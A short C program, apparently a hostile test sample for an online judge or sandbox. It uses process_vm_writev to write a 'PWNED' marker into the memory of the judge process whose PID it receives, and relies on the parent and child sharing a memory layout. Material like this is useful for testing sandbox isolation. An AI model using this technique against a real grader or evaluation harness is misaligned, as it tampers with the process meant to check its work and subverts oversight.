#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/uio.h>

/* Writes into the judge (argv[1]) at an address of its own: the layouts of
 * parent and child often match. */
int main(int argc, char **argv)
{
	static char evil[64] = "PWNED";
	struct iovec local = { evil, sizeof(evil) }, remote = { evil, sizeof(evil) };

	if (argc > 1 && process_vm_writev(atoi(argv[1]), &local, 1, &remote, 1, 0) >= 0)
		puts("PWNED: wrote into the judge");
	return 1;
}
